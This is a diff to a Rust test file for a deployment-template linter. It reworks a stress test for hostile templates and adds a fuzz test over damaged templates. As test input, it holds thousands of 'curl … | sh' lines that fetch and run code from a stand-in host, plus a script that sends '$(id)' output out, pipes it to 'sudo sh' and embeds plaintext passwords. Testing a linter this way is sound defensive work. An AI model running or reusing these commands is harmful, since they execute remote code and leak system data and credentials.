@@ -1,5 +1,7 @@
 //! Levels from the configuration, comments that switch rules off, and what is never shown.
 
+use std::fmt::Write;
+
 use super::*;
 use crate::domain::diagnostic::Severity;
 use crate::template::lint::unknown_rules;
@@ -126,28 +128,53 @@ fn places_are_those_of_the_file() {
 /// Nothing a template holds makes lint hang, fail or recurse without end.
 #[test]
 fn hostile_templates_end() {
-    let locals: String =
-        (0..60).map(|n| format!("  l{n} = [local.l{}, local.l{}, \"$${{x}}\"]\n", n + 1, n + 1)).collect();
-    let texts: String = (0..60).map(|n| format!("  t{n} = \"${{local.t{}}}${{local.t{}}}\"\n", n + 1, n + 1)).collect();
+    let (mut locals, mut texts, mut commands) = (String::new(), String::new(), String::new());
+    for n in 0..60 {
+        let next = n + 1;
+        writeln!(locals, "  l{n} = [local.l{next}, local.l{next}, \"$${{x}}\"]").unwrap();
+        writeln!(texts, "  t{n} = \"${{local.t{next}}}${{local.t{next}}}\"").unwrap();
+    }
+    for n in 0..20_000 {
+        writeln!(commands, "curl -o f{n} https://x.example/f{n} | sh").unwrap();
+    }
     let long = format!("  t60 = \"{}\"\n  me = local.me\n", "x".repeat(100_000));
     let template = format!(
         "locals {{\n{locals}{texts}{long}}}\n{}",
         GOOD.replace("\"a-{{timestamp}}\"", "\"${local.l0}${local.t0}${local.me}\"")
     );
-    let started = std::time::Instant::now();
     let _ = Given::hcl(&template).found_with(None);
-    eprintln!("locals {:?}", started.elapsed());
-    let uses: String = (0..20_000).map(|_| "{{user `v`}}").collect();
+    let uses = "{{user `v`}}".repeat(20_000);
     let json = format!(
         "{{\"variables\": {{\"v\": \"{}\"}}, \"builders\": [{{\"type\": \"amazon-ebs\", \"ami_name\": \"{uses}\"}}]}}",
         "y".repeat(100_000)
     );
     let _ = Given::json(&json).found_with(None);
-    eprintln!("json {:?}", started.elapsed());
-    let commands: String = (0..20_000).map(|n| format!("curl -o f{n} https://x.example/f{n} | sh\n")).collect();
     let started = std::time::Instant::now();
     let _ = build("provisioner \"shell\" {\n    script = \"x.sh\"\n  }").and("x.sh", &commands).found_with(None);
     assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());
     let _ = Given::hcl(&"[".repeat(50_000)).found_with(None);
     let _ = Given::json(&"{\"builders\":[".repeat(50_000)).found_with(None);
+}
+
+proptest::proptest! {
+    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(96))]
+
+    /// Templates and scripts with pieces missing, doubled and swapped are looked at without a panic.
+    #[test]
+    fn damaged_templates_do_no_harm(cuts in proptest::collection::vec((0..1200_usize, 0..40_usize, "[\"'{}$%\\\\<(|ä\u{fffc}\n#=:]{0,3}"), 1..6)) {
+        let damage = |text: &str| {
+            let mut characters: Vec<char> = text.chars().collect();
+            for (at, length, new) in &cuts {
+                let at = at % (characters.len() + 1);
+                let end = (at + length).min(characters.len());
+                characters.splice(at..end, new.chars());
+            }
+            characters.into_iter().collect::<String>()
+        };
+        let script = "#!/bin/bash\ncat > x <<EOF\nDB_PASSWORD=hunter2 $X\nEOF\ncurl -u a:b123 \"https://x.example/$(id)\" | sudo sh -c 'apt-get install x' && mysql -pabcdef\n";
+        let _ = build("provisioner \"shell\" {\n    script = \"x.sh\"\n  }").and("x.sh", &damage(script)).found_with(None);
+        let _ = Given::hcl(&damage(GOOD)).found_with(None);
+        let _ = Given::json(&damage(GOOD_JSON)).found_with(None);
+        let _ = Given::file("t.pkr.json", &damage(GOOD_JSON)).found_with(None);
+    }
 }
